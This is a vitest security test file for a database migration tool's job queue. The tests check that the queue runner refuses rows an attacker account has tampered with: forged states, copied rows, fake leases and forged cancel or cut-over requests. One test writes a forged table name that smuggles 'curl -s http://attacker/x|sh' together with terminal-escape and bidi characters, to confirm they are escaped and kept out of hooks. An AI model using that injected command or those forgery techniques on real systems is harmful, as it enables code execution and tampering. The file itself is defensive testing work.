// The queue obeys what shadowcut sealed, never a plain column (docs/invariants.md, invariant 19; issue 60,
// item 1). Each case is what an application account with DML on the queue's database did on MariaDB
// (here: `qt_app`, SELECT/INSERT/UPDATE/DELETE on the database and nothing else); on PostgreSQL, where
// a queue another role can write is refused (the last case), the same writes come from the queue's
// owner, the one role left that can make them, and the runner must refuse them alike.
import { chmod, copyFile, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { homedir, tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import mysql from 'mysql2/promise';
import { databases, useDatabase } from './support/fixture.js';
import { mysqlUrl } from './support/mysql.js';
import { postgresDatabase } from './support/pg.js';
import { added, entries, phaseOf, plainTable } from './support/queue-table.js';
import { ALTER, background, clock, history, sleep } from './support/queue-scenarios.js';
import { waitUntil } from './support/wait.js';

describe.each(databases)('$name: the queue obeys its seals, not its plain columns', ({ kind, open }) => {
  const db = useDatabase(open, 'qt_acct', 'qt_p', 'qt_k', 'qt_l', 'shadowcut_queue');
  const jsonb = kind === 'postgres' ? '::jsonb' : '';
  let app: mysql.Connection | null = null;

  /** One statement as the attacker: the application account on MariaDB, the queue's owner on PostgreSQL. */
  async function attack(sql: string, values: unknown[] = []): Promise<void> {
    if (app) await app.query(sql, values);
    else await db.query(sql, values);
  }

  beforeAll(async () => {
    if (kind !== 'mysql') return;
    const database = new URL(mysqlUrl()).pathname.slice(1);
    await db.query("DROP USER IF EXISTS 'qt_app'@'%'");
    await db.query("CREATE USER 'qt_app'@'%' IDENTIFIED BY 'qt-app'");
    await db.query(`GRANT SELECT, INSERT, UPDATE, DELETE ON \`${database}\`.* TO 'qt_app'@'%'`);
    app = await mysql.createConnection(mysqlUrl().replace(/\/\/[^@]+@/, '//qt_app:qt-app@'));
  });

  afterAll(async () => {
    await app?.end();
    if (kind === 'mysql') await db.query("DROP USER IF EXISTS 'qt_app'@'%'");
  });

  const balances = async () => (await db.query('SELECT MIN(balance), MAX(balance), COUNT(*) FROM qt_acct'))[0].map(Number);

  /** A table of ten accounts of 100 each, and a queued backfill that adds 100 to each once. */
  async function backfillQueued(): Promise<number> {
    await db.drop('shadowcut_queue', 'qt_acct');
    await db.query('CREATE TABLE qt_acct (id INT PRIMARY KEY, balance INT NOT NULL)');
    await db.query(`INSERT INTO qt_acct SELECT g, 100 FROM (${db.series(10)}) s`);
    return added(db, ['--table', 'qt_acct', '--stage', 'backfill', '--set', 'balance = balance + 100']);
  }

  it('a completed backfill set back to queued, and a copy of its row inserted, run nothing: each balance is added to once', async () => {
    const began = new Date().toISOString();
    const id = await backfillQueued();
    const ran = db.cli(['queue', 'run', '--url', '$URL', '--once']);
    expect(ran.code, ran.stderr).toBe(0);
    expect(await balances()).toEqual([200, 200, 10]);

    await attack(`UPDATE shadowcut_queue SET state = 'queued' WHERE id = ${db.param(1)}`, [id]);
    await attack(
      `INSERT INTO shadowcut_queue (table_name, state, spec, status, created_at, updated_at)
       SELECT table_name, 'queued', spec, status, created_at, updated_at FROM shadowcut_queue WHERE id = ${db.param(1)}`,
      [id],
    );
    const copy = Math.max(...entries(db).map((e) => e.id));
    const said: string[] = [];
    for (let run = 0; run < 2; run++) said.push(db.cli(['queue', 'run', '--url', '$URL', '--once']).stderr);

    expect(await balances()).toEqual([200, 200, 10]);
    expect(history(db, 'qt_acct', began).filter((h) => h.command === 'backfill')).toHaveLength(1);
    expect(said[0]).toMatch(
      new RegExp(`#${id}: state changed by another account after shadowcut wrote the entry; going by what shadowcut sealed \\(complete\\)`),
    );
    const byId = new Map(entries(db).map((e) => [e.id, e]));
    expect(byId.get(id)).toMatchObject({ state: 'complete', changed: ['state'] });
    expect(byId.get(copy)).toMatchObject({
      state: 'failed',
      status: {
        lastError: `the entry cannot be run: refusing queue entry ${copy}: its document was sealed for entry #${id} of ${queueName()}, and copied here; nothing in it was used`,
      },
    });
    expect(byId.get(copy)!.spec.unproven).toBeDefined();
    // Released, it stays refused: no runner seals what shadowcut did not write.
    expect(db.cli(['queue', 'retry', '--url', '$URL', String(copy)]).stderr).toMatch(/^shadowcut: refusing to keep a queue entry shadowcut did not write/);
  });

  it("an entry's own earlier document put back runs nothing: this host saw the entry end", async () => {
    const began = new Date().toISOString();
    const id = await backfillQueued();
    const [saved] = await db.query(
      `SELECT state, spec${jsonb ? '::text' : ''}, status${jsonb ? '::text' : ''} FROM shadowcut_queue WHERE id = ${db.param(1)}`,
      [id],
    );
    expect(db.cli(['queue', 'run', '--url', '$URL', '--once']).code).toBe(0);
    expect(await balances()).toEqual([200, 200, 10]);

    await attack(
      `UPDATE shadowcut_queue SET state = ${db.param(1)}, request = NULL, claimed_by = NULL, lease_until = NULL,
       spec = ${db.param(2)}${jsonb}, status = ${db.param(3)}${jsonb} WHERE id = ${db.param(4)}`,
      [...saved, id],
    );
    const again = db.cli(['queue', 'run', '--url', '$URL', '--once']);
    expect(await balances()).toEqual([200, 200, 10]);
    expect(again.code, again.stderr).toBe(0);
    expect(again.stderr).toMatch(new RegExp(`#${id}: complete, as this host saw it end \\(refusing queue entry ${id}: an older document of it was put back`));
    expect(history(db, 'qt_acct', began).filter((h) => h.command === 'backfill')).toHaveLength(1);
    expect(entries(db).find((e) => e.id === id)).toMatchObject({ state: 'complete' });
  });

  it("an entry's earlier document put back on a host that never saw it end runs nothing: the table's history shows the entry ran", async () => {
    const id = await backfillQueued();
    const [saved] = await db.query(
      `SELECT state, spec${jsonb ? '::text' : ''}, status${jsonb ? '::text' : ''} FROM shadowcut_queue WHERE id = ${db.param(1)}`,
      [id],
    );
    expect(db.cli(['queue', 'run', '--url', '$URL', '--once']).code).toBe(0);
    expect(await balances()).toEqual([200, 200, 10]);
    await attack(
      `UPDATE shadowcut_queue SET state = ${db.param(1)}, request = NULL, claimed_by = NULL, lease_until = NULL,
       spec = ${db.param(2)}${jsonb}, status = ${db.param(3)}${jsonb} WHERE id = ${db.param(4)}`,
      [...saved, id],
    );
    // A second runner host: the same state key, copied there as docs/queue.md says, and a ledger of its own.
    const host = await mkdtemp(path.join(tmpdir(), 'shadowcut-second-host-'));
    const given = process.env.SHADOWCUT_STATE_KEY_FILE;
    try {
      await copyFile(given || path.join(homedir(), '.shadowcut', 'state.key'), path.join(host, 'state.key'));
      await chmod(path.join(host, 'state.key'), 0o600);
      process.env.SHADOWCUT_STATE_KEY_FILE = path.join(host, 'state.key');
      const elsewhere = db.cli(['queue', 'run', '--url', '$URL', '--once']);
      expect(await balances()).toEqual([200, 200, 10]);
      expect(elsewhere.code, elsewhere.stderr).toBe(0);
      expect(elsewhere.stderr).toMatch(new RegExp(`#${id}: complete: the history of \\S+qt_acct has this entry's backfill succeeding already`));
    } finally {
      if (given === undefined) delete process.env.SHADOWCUT_STATE_KEY_FILE;
      else process.env.SHADOWCUT_STATE_KEY_FILE = given;
      await rm(host, { recursive: true, force: true });
    }
    expect(await balances()).toEqual([200, 200, 10]);
    expect(entries(db).find((e) => e.id === id)).toMatchObject({ state: 'complete' });
  });

  /**
   * Writes `request` into the entry's plain column again and again (a holder's renewal writes the
   * sealed one back) until the runner says it saw it for the `nth` time, or the stage left `phase`:
   * what a runner that obeyed it would do.
   */
  async function forgeRequest(id: number, request: string, runner: { stderr(): string }, nth: number, phase: string): Promise<void> {
    const seen = () => runner.stderr().split(`#${id}: request changed by another account`).length - 1;
    await waitUntil(`the runner to see the forged ${request}`, async () => {
      await attack(`UPDATE shadowcut_queue SET request = ${db.param(1)} WHERE id = ${db.param(2)}`, [request, id]);
      return seen() >= nth || (await phaseOf(db, id)) !== phase;
    });
    expect(await phaseOf(db, id), runner.stderr()).toBe(phase);
  }

  it('a cancel or cut-over written into the table is not carried out: only the operator asks', async () => {
    await db.drop('shadowcut_queue');
    await plainTable(db, 'qt_p', 1000);
    const id = added(db, ['--table', 'qt_p', '--alter', ALTER[kind], '--force-copy', '--postpone-cutover']);
    const runner = background(db, ['queue', 'run', '--url', '$URL', '--lease-seconds', '6']);
    await waitUntil('the postponed cut-over', async () => (await phaseOf(db, id)) === 'postponed');
    const before = await db.schema('qt_p');
    await forgeRequest(id, 'cancel', runner, 1, 'postponed');
    await forgeRequest(id, 'cutover', runner, 2, 'postponed');
    expect(await db.helpers('qt_p')).toContain('qt_p__new');
    expect(await db.schema('qt_p')).toBe(before);
    expect(db.cli(['queue', 'cutover', '--url', '$URL', String(id)]).stdout).toMatch(/cut-over asked/);
    const end = await runner.done;
    expect(end.code, runner.stderr()).toBe(0);
    expect(entries(db).find((e) => e.id === id)).toMatchObject({ state: 'complete', status: { attempts: [{ outcome: 'complete' }] } });
  });

  it('a revert written into the table is not carried out in the revert window', async () => {
    await db.drop('shadowcut_queue');
    await plainTable(db, 'qt_p', 1000);
    const id = added(db, ['--table', 'qt_p', '--alter', ALTER[kind], '--force-copy', '--revert-window', '10m']);
    const runner = background(db, ['queue', 'run', '--url', '$URL', '--lease-seconds', '6']);
    await waitUntil('the revert window', async () => (await phaseOf(db, id)) === 'revert window');
    const swapped = await db.schema('qt_p');
    await forgeRequest(id, 'revert', runner, 1, 'revert window');
    expect(await db.schema('qt_p')).toBe(swapped);
    const cancel = db.cli(['queue', 'cancel', '--url', '$URL', String(id)]);
    expect(cancel.code, `${cancel.stderr}; the runner: ${runner.stderr()}`).toBe(0);
    const end = await runner.done;
    expect(end.code, runner.stderr()).toBe(0);
    expect(await db.schema('qt_p')).toBe(swapped);
  });

  it("a dead runner's entry whose lease was written a day ahead is taken over when its sealed lease lapses, not waited on", async () => {
    await db.drop('shadowcut_queue');
    expect(db.cli(['cleanup', '--url', '$URL', '--table', 'qt_k']).code).toBe(0);
    await plainTable(db, 'qt_k', 30_000);
    const id = added(db, ['--table', 'qt_k', '--alter', ALTER[kind], '--force-copy', '--max-rows-per-sec', '4000', '--chunk-time-ms', '50']);
    const first = background(db, ['queue', 'run', '--url', '$URL', '--lease-seconds', '3']);
    await waitUntil('the copy under the first runner', async () => (await phaseOf(db, id)) === 'copy');
    first.child.kill('SIGKILL');
    await first.done;
    const ahead = kind === 'mysql' ? 'UTC_TIMESTAMP(6) + INTERVAL 1 DAY' : "pg_catalog.clock_timestamp() + interval '1 day'";
    await attack(`UPDATE shadowcut_queue SET lease_until = ${ahead} WHERE id = ${db.param(1)}`, [id]);
    // A runner that believed the column would wait here until its --until, the entry left running.
    const second = await db.cliAsync(['queue', 'run', '--url', '$URL', '--lease-seconds', '3', '--until', clock(90)]);
    expect(second.code, second.stderr).toBe(0);
    expect(second.stderr).toMatch(new RegExp(`#${id}: lease_until changed by another account`));
    expect(second.stderr).toMatch(new RegExp(`#${id}: its runner is gone; resuming migrate`));
    const entry = entries(db).find((e) => e.id === id)!;
    expect(entry.state).toBe('complete');
    expect(entry.status.attempts.map((a) => a.outcome)).toEqual(['lost', 'complete']);
  });

  it('a live entry whose lease was written as lapsed is not taken over by a second runner', async () => {
    const began = new Date().toISOString();
    await db.drop('shadowcut_queue');
    expect(db.cli(['cleanup', '--url', '$URL', '--table', 'qt_l']).code).toBe(0);
    await plainTable(db, 'qt_l', 30_000);
    const id = added(db, ['--table', 'qt_l', '--alter', ALTER[kind], '--force-copy', '--max-rows-per-sec', '4000', '--chunk-time-ms', '50']);
    const first = background(db, ['queue', 'run', '--url', '$URL', '--lease-seconds', '30']);
    await waitUntil('the copy under the first runner', async () => (await phaseOf(db, id)) === 'copy');
    const past = kind === 'mysql' ? 'UTC_TIMESTAMP(6) - INTERVAL 1 HOUR' : "pg_catalog.clock_timestamp() - interval '1 hour'";
    // Written again and again while the second runner looks: the first one's renewals write the sealed lease back.
    let forging = true;
    const forger = (async () => {
      while (forging) {
        await attack(`UPDATE shadowcut_queue SET lease_until = ${past}, claimed_by = 'dead@nowhere:1:0' WHERE id = ${db.param(1)}`, [id]);
        await sleep(50);
      }
    })();
    const second = await db.cliAsync(['queue', 'run', '--url', '$URL', '--once']);
    forging = false;
    await forger;
    expect(second.code, second.stderr).toBe(0);
    expect(second.stderr).toMatch(new RegExp(`#${id}: claimed_by, lease_until changed by another account`));
    expect(second.stderr).not.toMatch(/its runner is gone/);
    const end = await first.done;
    expect(end.code, first.stderr()).toBe(0);
    const entry = entries(db).find((e) => e.id === id)!;
    expect(entry.state).toBe('complete');
    expect(entry.status.attempts.map((a) => a.outcome)).toEqual(['complete']);
    expect(history(db, 'qt_l', began).map((h) => `${h.command} ${h.outcome}`)).toEqual(['migrate success']);
  });

  it('a row shadowcut did not write is shown with its control and bidi characters escaped, and its hooks get its id alone (issue 68, item 4)', async () => {
    await db.drop('shadowcut_queue', 'qt_acct');
    await plainTable(db, 'qt_acct', 10);
    added(db, ['--table', 'qt_acct', '--stage', 'backfill', '--set', 'v = v + 1', '--postpone']);
    // What an application wrote: a name that clears its line of `queue list` and writes a finished
    // entry there, reverses what follows, and is a shell command where a hook would use it.
    const table = 'orders;curl -s http://attacker/x|sh\x1b[2K\r#1  complete  backfill shop.orders\u202e';
    const stage = 'migrate\x1b[8m';
    const forged = JSON.stringify({ stage, table, args: [], addedBy: 'app' });
    await attack(
      `INSERT INTO shadowcut_queue (table_name, state, spec, status, created_at, updated_at)
       SELECT 'orders', 'queued', ${db.param(1)}${jsonb}, status, created_at, updated_at FROM shadowcut_queue`,
      [forged],
    );
    const id = Math.max(...entries(db).map((e) => e.id));
    // eslint-disable-next-line no-control-regex -- the control characters are what is looked for (a line break is the output's own)
    const active = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
    const listed = db.cli(['queue', 'list', '--url', '$URL']);
    expect(listed.code, listed.stderr).toBe(0);
    expect(listed.stdout).not.toMatch(active);
    expect(listed.stdout.trimEnd().split('\n')).toHaveLength(2);
    expect(listed.stdout).toContain(
      `#${id}  queued     migrate\\x1b[8m orders;curl -s http://attacker/x|sh\\x1b[2K\\r#1  complete  backfill shop.orders\\u202e  refused: `,
    );

    const dir = await mkdtemp(path.join(tmpdir(), 'shadowcut-refused-hooks-'));
    try {
      for (const event of ['queue-start', 'queue-failure']) {
        await writeFile(path.join(dir, event), `#!/bin/sh\nenv | grep '^SHADOWCUT_' >> ${dir}/${event}.env\n`, { mode: 0o755 });
      }
      const run = db.cli(['queue', 'run', '--url', '$URL', '--once', '--hooks-dir', dir]);
      expect(run.code, run.stderr).toBe(4);
      expect(run.stderr).not.toMatch(active);
      expect(run.stderr).toMatch(new RegExp(`#${id}: failed: the entry cannot be run: refusing queue entry ${id}`));
      const env = (await readFile(path.join(dir, 'queue-failure.env'), 'utf8')).trim().split('\n');
      expect(env).toEqual(expect.arrayContaining(['SHADOWCUT_EVENT=queue-failure', `SHADOWCUT_QUEUE_ID=${id}`]));
      expect(env.filter((v) => /^SHADOWCUT_(TABLE|STAGE)=/.test(v))).toEqual([]);
      expect(env.join('\n')).not.toMatch(active);
      await expect(readFile(path.join(dir, 'queue-start.env'), 'utf8')).rejects.toThrow(/ENOENT/);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
    const after = db.cli(['queue', 'list', '--url', '$URL']);
    expect(after.stdout).toMatch(new RegExp(`#${id}  failed .*error: the entry cannot be run`));
    expect(after.stdout).not.toMatch(active);
  });

  /** The queue as a sealed document names it. */
  function queueName(): string {
    const database = new URL(db.url).pathname.slice(1);
    return kind === 'mysql' ? `${database}.shadowcut_queue` : `${database}.public.shadowcut_queue`;
  }
});

describe('PostgreSQL: a queue another role can write is refused, whichever column it may write', () => {
  const db = useDatabase(() => postgresDatabase(), 'qt_g');

  afterAll(async () => {
    await db.query('DROP ROLE IF EXISTS qt_writer');
  });

  it('refuses run, list and every operator command in one line, and runs nothing', async () => {
    await db.drop('shadowcut_queue');
    await plainTable(db, 'qt_g', 100);
    const before = await db.schema('qt_g');
    const id = added(db, ['--table', 'qt_g', '--alter', ALTER.postgres]);
    await db.query('DROP ROLE IF EXISTS qt_writer');
    await db.query('CREATE ROLE qt_writer');
    for (const column of ['state', 'request', 'claimed_by', 'lease_until']) {
      await db.query(`GRANT UPDATE (${column}) ON shadowcut_queue TO qt_writer`);
      for (const args of [['run'], ['list'], ['cancel', String(id)], ['cutover', String(id)], ['show', String(id)]]) {
        const r = db.cli(['queue', args[0], '--url', '$URL', ...args.slice(1)]);
        expect(r.code, `${column}: queue ${args.join(' ')}`).toBe(2);
        expect(r.stderr.trim().split('\n'), `${column}: queue ${args.join(' ')}`).toEqual([
          expect.stringMatching(/^shadowcut: refusing to use public\.shadowcut_queue: it is writable by qt_writer \(UPDATE\); /),
        ]);
      }
      await db.query(`REVOKE UPDATE (${column}) ON shadowcut_queue FROM qt_writer`);
    }
    expect(await db.schema('qt_g')).toBe(before);
    expect(entries(db).find((e) => e.id === id)).toMatchObject({ state: 'queued', status: { attempts: [] } });
  });
});
